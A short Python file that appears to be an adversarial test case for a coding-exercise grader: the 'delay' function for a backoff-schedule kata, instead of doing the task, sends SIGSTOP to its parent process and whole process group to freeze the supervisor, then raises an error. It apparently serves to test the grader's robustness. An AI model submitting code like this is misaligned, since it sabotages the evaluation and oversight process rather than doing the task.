"""Stops its supervisor instead of ending it.

Kata: backoff_schedule
Attack: Sends SIGSTOP to its parent and its process group.
Status: error or failed or timed-out
Points: 0
Needs: processes
"""

import os
import signal


def attack():
    if os.getppid() > 1:
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
        except OSError:
            pass
    os.killpg(0, signal.SIGSTOP)
    raise RuntimeError("stopped what could be stopped")


def delay(*args, **options):
    return attack()


Backoff = delay
